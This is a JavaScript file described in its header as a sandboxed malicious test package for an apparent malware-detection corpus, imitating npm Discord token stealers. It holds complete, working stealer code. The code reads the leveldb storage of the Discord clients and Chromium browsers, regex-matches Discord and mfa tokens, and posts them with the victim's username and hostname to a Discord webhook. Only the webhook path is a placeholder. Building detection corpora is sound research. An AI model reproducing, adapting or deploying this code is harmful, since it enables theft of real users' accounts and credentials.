'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// The technique of the many Discord token stealers on npm (discord.dll,
// discord-selfbot look-alikes and their kin, 2020-2023), rewritten from the
// public write-ups: walk the `Local Storage/leveldb` folders of the Discord
// clients and of Chromium browsers, read the .ldb/.log files, pick out what
// looks like a token, and POST the haul with the user and host names to a
// Discord webhook. The webhook URL is made up; in the sandbox the HTTPS sink
// answers for discord.com and nothing leaves. Prints `mal-discord-webhook:
// step N ...`; exits 0 whatever fails, after 5 s at the latest.
const fs = require('fs');
const https = require('https');
const os = require('os');
const path = require('path');

const WEBHOOK = '/api/webhooks/000000000000000000/pkgtrace-test-not-a-real-webhook';
const say = (msg) => console.log(`mal-discord-webhook: ${msg}`);
const errText = (e) => (e && (e.code || e.message)) || String(e);
setTimeout(() => { say('gave up after 5 s'); process.exit(0); }, 5000).unref();
process.on('uncaughtException', (e) => { say(`error ${errText(e)}`); process.exit(0); });

const home = os.homedir();
const places = [
  '.config/discord', '.config/discordcanary', '.config/discordptb', '.config/Lightcord',
  '.config/google-chrome/Default', '.config/BraveSoftware/Brave-Browser/Default', '.config/chromium/Default',
].map((p) => path.join(home, p, 'Local Storage', 'leveldb'));

const tokens = new Set();
let listed = 0;
for (const dir of places) {
  let names = [];
  try { names = fs.readdirSync(dir); listed += 1; } catch (e) { continue; }
  for (const name of names.filter((n) => n.endsWith('.ldb') || n.endsWith('.log'))) {
    try {
      const text = fs.readFileSync(path.join(dir, name), 'latin1');
      for (const m of text.matchAll(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}/g)) tokens.add(m[0]);
    } catch (e) { /* unreadable */ }
  }
}
say(`step 1 searched ${places.length} leveldb folders, ${listed} found`);
say(`step 2 ${tokens.size} tokens`);

const body = JSON.stringify({
  username: 'grabber',
  content: `new hit: ${os.userInfo().username}@${os.hostname()}`,
  embeds: [{ title: 'tokens', description: [...tokens].join('\n') || 'none' }],
});
const req = https.request({
  hostname: 'discord.com', port: 443, path: WEBHOOK, method: 'POST', timeout: 2500,
  headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) },
}, (res) => {
  say(`step 3 POST https://discord.com${WEBHOOK}: status ${res.statusCode}`);
  res.resume();
  res.on('end', () => process.exit(0));
});
req.on('error', (e) => { say(`step 3 POST failed: ${errText(e)}`); process.exit(0); });
req.on('timeout', () => req.destroy(new Error('timeout')));
req.end(body);
